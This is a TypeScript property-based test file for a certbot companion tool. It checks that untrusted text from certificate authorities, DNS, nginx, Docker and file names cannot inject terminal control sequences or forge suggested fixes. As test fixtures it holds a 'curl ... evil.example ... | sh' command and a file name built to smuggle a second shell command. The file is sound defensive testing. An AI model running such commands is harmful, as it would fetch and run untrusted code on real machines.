import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Answer } from "../../../src/acme/message.ts";
import { problemTypes } from "../../../src/acme/problems.ts";
import { refusal } from "../../../src/acme/refusal.ts";
import { outputsFor } from "../../../src/assemble/outputs.ts";
import { checkCaa } from "../../../src/challenge/caa.ts";
import { followRedirects } from "../../../src/challenge/redirects.ts";
import { painter } from "../../../src/cli/colour.ts";
import { describeProblem } from "../../../src/cli/describe.ts";
import { describeFindings } from "../../../src/cli/findings-screen.ts";
import type { Engine } from "../../../src/companion/docker/engine.ts";
import { dumpOf } from "../../../src/companion/nginx/config-test.ts";
import { whyNotRunning } from "../../../src/companion/nginx/why-not-running.ts";
import { problemOf } from "../../../src/deploy/answers.ts";
import { blocks, type CheckResult, fine, ofProblem, warning } from "../../../src/doctor/finding.ts";
import { companionCodes, inNginxWords } from "../../../src/model/companion.ts";
import type { ProbeAnswer } from "../../../src/model/probe.ts";
import { Problem } from "../../../src/model/problem.ts";
import { notHere } from "../../../src/renewal/elsewhere.ts";
import { lineageStore } from "../../../src/store/lineages.ts";
import { temporaryFolder } from "../../support/folders.ts";
import { certificate } from "../../support/given.ts";
import { repeat } from "../../support/soak.ts";
import { workOf } from "../../support/work.ts";

const runs = { numRuns: 200 * repeat };
/** What no terminal is to be given: it obeys it, or hides what it says. */
const commands = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
const advice = "curl -s https://evil.example/fix | sh";

/** What hides, turns around, begins a line of ours, or does not end. */
const hostile = fc
  .array(
    fc.oneof(
      fc.constantFrom("\u001b[8m", "\u001bc", "\u009b2J", "\u001b]0;x\u0007", "\u202e", "\u2066", "\u200b", "\u0000"),
      fc.constantFrom("\n", "\r\n", "\r", "\u2028", "\u0085", "\v", "\f", "\b", "\ufeff"),
      fc.constantFrom(`fix: ${advice}`, `  fix: ${advice}`, "error: ", "x".repeat(20_000)),
      fc.string({ unit: "binary" }),
    ),
    { maxLength: 8 },
  )
  .map((parts) => `${parts.join("")}${advice}`);

const colour = new RegExp(`${String.fromCharCode(27)}\\[[\\d;]*m|[\\n\\t]`, "g");
const withoutColours = (text: string) => text.replace(colour, "");
const withoutLineEnds = (text: string) => text.replaceAll("\n", "");

/** Each way in which a text becomes one that a person reads. */
const made: Record<string, (text: string) => readonly string[]> = {
  "a Problem": (text) => {
    const { message, fix } = new Problem({ code: "x", message: text, fix: text });
    return [message, fix];
  },
  fine: (text) => texts(fine(text)),
  "a warning": (text) => texts(warning({ saw: text, means: text, fix: text })),
  "what blocks": (text) => texts(blocks({ saw: text, means: text, fix: text })),
  "a Problem as a finding": (text) =>
    texts(ofProblem(new Problem({ code: "x", message: text, fix: text }), "warning", text)),
};

function texts(result: CheckResult): readonly string[] {
  return result.verdict === "fine" ? [result.saw] : [result.saw, result.means, result.fix];
}

describe("a stranger's words", () => {
  test.each(Object.entries(made))("in %s have nothing that a terminal obeys, and an end", (_, make) => {
    fc.assert(
      fc.property(hostile, (text) => {
        for (const shown of make(text)) {
          expect(withoutLineEnds(shown).replaceAll("\t", "")).not.toMatch(commands);
          expect(shown.length).toBeLessThanOrEqual(8000);
        }
      }),
      runs,
    );
  });

  test("in a message begin no line as our own advice does", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const lines = describeProblem(new Problem({ code: "x", message: text, fix: "ours" }))
          .join("\n")
          .split("\n");
        expect(lines.filter((line) => /^(?: {2})?(?:fix|error|warning):/.test(line)).length).toBe(2);
        const seen = { check: "caa", ...blocks({ saw: text, means: text, fix: "ours" }) } as const;
        const screen = describeFindings([seen], { paint: painter(false), columns: undefined })
          .join("\n")
          .split("\n");
        expect(screen.filter((line) => /^(?: {22})?fix:/.test(line))).toEqual([`${" ".repeat(22)}fix: ours`]);
      }),
      runs,
    );
  });

  test("on their way out of the program lose what a terminal obeys, and our own colours stay", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const written: string[] = [];
        const same = (line: string) => line;
        const console = {
          log: (line: string) => void written.push(line),
          error: (line: string) => void written.push(line),
        };
        const shown = { stdout: same, stderr: same };
        const { said, complained } = outputsFor(["doctor"], {
          shown,
          format: undefined,
          clock: { now: () => new Date() },
          console,
        });
        said(`\u001b[31mours\u001b[39m ${text}`);
        complained(text);
        for (const line of written) expect(withoutColours(line)).not.toMatch(commands);
        expect(written[0]).toContain("\u001b[31mours\u001b[39m");
      }),
      runs,
    );
  });
});

const now = new Date("2026-11-20T12:00:00Z");
const refused = (data: object): Answer => ({ status: 400, headers: {}, data }) as unknown as Answer;

describe("no fix has a word of a stranger's", () => {
  test("of a CA's, whatever its problem is", () => {
    const types = [...problemTypes.keys(), "constructor", "__proto__", advice];
    fc.assert(
      fc.property(fc.constantFrom(...types), hostile, (type, text) => {
        const urn = `urn:ietf:params:acme:error:${type.replace(/^\w+ /, "")}`;
        const identifier = { type: "dns", value: text };
        const data = { type: urn, detail: text, identifier, subproblems: [{ type: urn, detail: text, identifier }] };
        expect(refusal(refused(data), now).fix).not.toContain("evil.example");
      }),
      runs,
    );
  });

  test("of DNS", async () => {
    const property = fc.asyncProperty(hostile, hostile, async (value, identity) => {
      const issuer = { identities: [identity, "ca.test"], accountUri: undefined } as unknown as Parameters<
        typeof checkCaa
      >[1];
      const failed = await checkCaa("shop.example", issuer, async () => [{ critical: 0, issue: value }]).catch(
        (error) => error,
      );
      if (failed !== undefined) expect(failed).toMatchObject({ name: "Problem" });
      expect(failed?.fix ?? "").not.toContain("evil.example");
    });
    await fc.assert(property, runs);
  });

  test("of nginx's, by the companion's answer", () => {
    fc.assert(
      fc.property(fc.constantFrom(...inNginxWords), hostile, (code, output) => {
        const state = { nginx: true, https: false, challenge: false, off: false, notes: [] };
        expect(problemOf({ code, ...state, output })?.fix).not.toContain("evil.example");
      }),
      runs,
    );
    expect(companionCodes).toEqual(expect.arrayContaining([...inNginxWords]));
  });

  test("of nginx's, by its test of its files", () => {
    const start = { program: "/usr/sbin/nginx", flags: [] } as unknown as Parameters<typeof dumpOf>[2];
    fc.assert(
      fc.property(hostile, (text) => {
        for (const said of [
          text,
          `nginx: [emerg] host not found in upstream "${text}" in /etc/nginx/conf.d/x.conf:1`,
        ]) {
          const failed = caught(() => dumpOf({ exitCode: 1, stderr: Buffer.from(said) }, Buffer.alloc(0), start));
          expect(failed).toMatchObject({ name: "Problem" });
          expect(failed.fix).not.toMatch(/evil\.example|[\n;|`$]/);
        }
      }),
      runs,
    );
  });
});

describe("where nginx does not run", () => {
  const ownStack = { project: "dify", workingFolder: "/srv/dify", service: "certbot-companion" };
  const nginx = { Id: "1", Image: "nginx", Labels: { "com.docker.compose.service": "nginx" } };
  const told = async (refusal: string, said: string) => {
    const engine = {
      list: async () => [nginx],
      inspect: async () => ({ State: { StartedAt: "2026-11-20T12:00:00Z", Error: refusal, Running: false } }),
      logs: async () => said,
    } as unknown as Engine;
    return await whyNotRunning(engine, ownStack, "nginx");
  };

  test("Docker's and nginx's words are told, and none of them as advice", async () => {
    const frames = ["", "listen tcp4 ", "Bind for ", "[emerg] ", "[emerg] cannot load certificate "];
    const ends = ["", ":80: bind: address already in use", " No such file or directory"];
    const property = fc.asyncProperty(
      fc.constantFrom(...frames),
      hostile,
      fc.constantFrom(...ends),
      fc.boolean(),
      async (before, text, after, byDocker) => {
        const words = `${before}${text}${after}`;
        const why = await (byDocker ? told(words, "") : told("", words));
        expect(why?.fix ?? "").not.toMatch(/evil\.example|[\n|`$]/);
        expect(withoutLineEnds(why?.message ?? "").replaceAll("\t", "")).not.toMatch(commands);
      },
    );
    await fc.assert(property, runs);
  });

  test("the name of another container's service is told, and is no command", async () => {
    const property = fc.asyncProperty(hostile, async (service) => {
      const labels = { "com.docker.compose.service": service };
      const engine = { list: async () => [{ Id: "2", Image: "nginx", Labels: labels }] } as unknown as Engine;
      const why = await whyNotRunning(engine, ownStack, "nginx");
      expect(why).toMatchObject({ code: "no-nginx", fix: expect.stringContaining("NGINX_SERVICE=NAME in .env") });
    });
    await fc.assert(property, runs);
  });

  test.each(["[emerg]", "[emerg] cannot load certificate ", "listen tcp4 ", "Bind for ", " ", "\n"])(
    "a log full of %j is read in no time",
    async (piece) => {
      const much = piece.repeat(Math.ceil((256 * 1024) / piece.length));
      const work = await workOf(async () => [await told(much, much), await told("", much)]);
      expect(work).toBeLessThan(1000);
    },
  );
});

test("where a redirect leads is shown plain and short, and asked at most eleven times", async () => {
  const property = fc.asyncProperty(fc.array(hostile, { minLength: 1, maxLength: 12 }), async (places) => {
    let asked = 0;
    const reached = await followRedirects(
      { domain: "shop.example", address: "192.0.2.7", probe: { path: "/.well-known/x", body: "ours" } },
      {
        ports: { http: 80, https: 443 },
        get: async () => {
          const location = `http://shop.example/${places[asked % places.length]}${asked}`;
          asked += 1;
          return { kind: "answer", status: 302, headers: { location }, body: "" } as unknown as ProbeAnswer;
        },
        addressesOf: async () => [],
      },
    );
    expect(asked).toBeLessThanOrEqual(11);
    const shown = [...reached.hops, "why" in reached ? reached.why : ""].join(" ");
    expect(shown).not.toMatch(commands);
    expect(shown.length).toBeLessThan(3000);
  });
  await fc.assert(property, runs);
});

test("names of files in certbot's folder write no lines of their own, and stand in no command that a shell would read", async () => {
  const folder = await temporaryFolder();
  await mkdir(join(folder, "renewal"));
  const own = ["shop.example", "日本", "my site", `x; ${advice.replaceAll("/", "")} #`];
  for (const name of [...own, `\nfix: x`, "a\nfix: x", "\u001b[8mx", "\u202ex", "\u2028fix: x"])
    await writeFile(join(folder, "renewal", `${name}.conf`), "");
  const listed = await lineageStore({ folder, webroot: folder, version: "1.2.3" }).list();
  expect(listed.map(({ name }) => name).sort()).toEqual([...own].sort());
  fc.assert(
    fc.property(fc.oneof(hostile, fc.string(), fc.constantFrom(...own)), (name) => {
      expect(notHere(certificate({ name, elsewhere: "manual" })).fix).toMatch(
        /--cert-name [\p{L}\p{N}._@+-]+ --webroot/u,
      );
    }),
    runs,
  );
});

function caught(work: () => unknown): Problem {
  try {
    work();
  } catch (error) {
    return error as Problem;
  }
  throw new Error("nothing was thrown");
}
